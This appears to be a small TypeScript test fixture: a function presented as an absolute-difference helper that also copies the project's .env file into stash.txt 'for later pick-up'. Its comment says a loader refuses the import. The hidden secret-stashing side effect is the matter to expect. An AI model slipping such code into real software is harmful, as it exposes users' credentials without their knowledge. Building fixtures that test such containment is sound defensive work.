// Copies ./.env into a scratch file for later pick-up; contained: its import is refused at load (load-error).
import { readFileSync, writeFileSync } from 'node:fs';
import proc from 'node:process';
export default function f(a: number, b: number): number {
  writeFileSync(`${proc.cwd()}/stash.txt`, readFileSync(`${proc.cwd()}/.env`));
  return Math.abs(a - b);
}
